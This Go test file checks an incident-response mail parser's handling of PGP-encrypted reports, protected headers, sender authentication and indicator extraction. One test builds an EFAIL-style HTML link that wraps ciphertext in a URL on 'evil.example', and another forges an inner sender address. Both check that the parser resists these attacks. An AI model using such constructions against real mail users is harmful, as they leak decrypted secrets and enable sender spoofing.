package parser_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/gopenpgp/v2/crypto"

	"postern/parser"
	"postern/parser/pgp"
)

// keyring makes a team key.
func keyring(t testing.TB) *pgp.Keyring {
	t.Helper()
	key, err := crypto.GenerateKey("Example CSIRT", "csirt@example.org", "x25519", 0)
	if err != nil {
		t.Fatal(err)
	}
	armoured, err := key.Armor()
	if err != nil {
		t.Fatal(err)
	}
	ring, err := pgp.NewKeyring([][]byte{[]byte(armoured)}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	return ring
}

// madeAt is a time at which the key is there.
func madeAt(keys *pgp.Keyring) time.Time { return keys.Keys()[0].Created.Add(time.Hour) }

// encrypted wraps an entity as RFC 3156 section 4 says.
func encrypted(t testing.TB, keys *pgp.Keyring, header, entity string) string {
	t.Helper()
	cipher, err := keys.Encrypt([]byte(strings.ReplaceAll(entity, "\n", "\r\n")), []string{keys.Keys()[0].Fingerprint}, madeAt(keys))
	if err != nil {
		t.Fatal(err)
	}
	return header + "MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n" +
		"--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream; name=encrypted.asc\n\n" + string(cipher) + "\n--e--\n"
}

func parseWith(keys *pgp.Keyring, raw string) parser.Report {
	e := env()
	e.Keys, e.ReceivedAt = keys, madeAt(keys)
	return parser.Parse(context.Background(), strings.NewReader(raw), int64(len(raw)), e)
}

const outerHeader = "From: Outer <outer@example.net>\nTo: csirt@example.org\nSubject: ...\nMessage-ID: <m@example.net>\nDate: Sat, 21 Nov 2026 10:00:00 +0000\n"

func TestInnerHeadersOfAnEncryptedMailWin(t *testing.T) {
	keys := keyring(t)
	got := parseWith(keys, encrypted(t, keys, outerHeader, "From: Inner <inner@example.net>\nSubject: TLP:RED the real one\nContent-Type: multipart/mixed; boundary=i; protected-headers=\"v1\"\n\n"+
		"--i\nContent-Type: text/plain\n\nsecret words\n--i\nContent-Type: application/zip; name=a.zip\n\nz\n--i--\n"))
	if !got.Crypto.Encrypted || !got.Crypto.Decrypted || got.Text != "secret words" {
		t.Fatalf("crypto %+v, text %q", got.Crypto, got.Text)
	}
	if got.Subject != "TLP:RED the real one" || got.OuterSubject != "..." || got.TLP != "RED" {
		t.Errorf("subject %q, outer %q, TLP %q", got.Subject, got.OuterSubject, got.TLP)
	}
	if got.From[0].Address != "inner@example.net" || got.To[0].Address != "csirt@example.org" || got.MessageID != "m@example.net" {
		t.Errorf("from %v, to %v, id %q", got.From, got.To, got.MessageID)
	}
	if len(got.Attachments) != 1 || got.Attachments[0].Name != "a.zip" || !got.Attachments[0].Encrypted {
		t.Errorf("attachments %+v", got.Attachments)
	}
	for _, why := range got.Why {
		if strings.Contains(why, "secret") || strings.Contains(why, "real one") {
			t.Errorf("why quotes the mail: %q", why)
		}
	}
}

// Who could only encrypt cannot borrow the authentication of the outer sender.
func TestInnerSenderIsNotAuthenticated(t *testing.T) {
	keys := keyring(t)
	header := "Authentication-Results: mx.example.org; dkim=pass header.d=example.net\n" + outerHeader
	got := parseWith(keys, encrypted(t, keys, header, "From: boss@example.org\nSubject: x\n\nwords\n"))
	if got.From[0].Address != "boss@example.org" || got.Authentication.Aligned {
		t.Errorf("from %v, authentication %+v", got.From, got.Authentication)
	}
	header = strings.Replace(header, "dkim=pass header.d", "dmarc=pass header.from", 1)
	if got := parseWith(keys, encrypted(t, keys, header, "From: boss@example.org\nSubject: x\n\nwords\n")); got.Authentication.DMARC != "fail" || got.Authentication.Aligned {
		t.Errorf("DMARC of the outer sender speaks for the inner one: %+v", got.Authentication)
	}
	same := parseWith(keys, encrypted(t, keys, header, "Content-Type: text/plain\n\nwords\n"))
	if !same.Authentication.Aligned {
		t.Errorf("the outer sender alone: %+v", same.Authentication)
	}
}

func TestUndecryptableMailIsAReport(t *testing.T) {
	theirs := keyring(t)
	got := parseWith(keyring(t), encrypted(t, theirs, outerHeader, "Subject: x\n\nwords\n"))
	if !got.Crypto.Encrypted || got.Crypto.Decrypted || got.Crypto.Problem == "" || got.Text != "" || got.Subject != "..." {
		t.Errorf("crypto %+v, text %q, subject %q", got.Crypto, got.Text, got.Subject)
	}
	if len(got.Attachments) != 2 {
		t.Errorf("attachments %+v", got.Attachments)
	}
}

func TestInlineBlockStandsInItsPlace(t *testing.T) {
	keys := keyring(t)
	cipher, err := keys.Encrypt([]byte("secret words 192.0.2.5"), []string{keys.Keys()[0].Fingerprint}, madeAt(keys))
	if err != nil {
		t.Fatal(err)
	}
	got := parseWith(keys, outerHeader+"\nabove\n\n"+string(cipher)+"\n\nbelow\n")
	if want := "above\n\nsecret words 192.0.2.5\n\nbelow"; got.Text != want {
		t.Errorf("got %q, want %q", got.Text, want)
	}
	if len(got.Indicators) != 1 || got.Indicators[0].Value != "192.0.2.5" {
		t.Errorf("indicators %v", got.Indicators)
	}
	octets, _ := json.Marshal(got)
	if strings.Contains(string(octets), "BEGIN PGP") {
		t.Error("the armour is still there")
	}
}

// Markup that opens before a secret and closes behind it must not carry it away
// as part of an address (EFAIL).
func TestPageAroundASecretIsReadApart(t *testing.T) {
	keys := keyring(t)
	cipher, err := keys.Encrypt([]byte("secret words 192.0.2.5"), []string{keys.Keys()[0].Fingerprint}, madeAt(keys))
	if err != nil {
		t.Fatal(err)
	}
	got := parseWith(keys, outerHeader+"Content-Type: text/html\n\n<p>above</p><a href=\"http://evil.example/"+string(cipher)+"\">below</a>\n")
	if !got.Crypto.Decrypted || !strings.Contains(got.Text, "secret words 192.0.2.5") {
		t.Fatalf("crypto %+v, text %q", got.Crypto, got.Text)
	}
	for _, found := range got.Indicators {
		if strings.Contains(found.Value, "secret") || strings.Contains(found.Value, "evil.example/") {
			t.Errorf("the page took something along: %+v", found)
		}
	}
	if strings.Contains(got.Text, "evil.example/secret") {
		t.Errorf("got text %q", got.Text)
	}
}
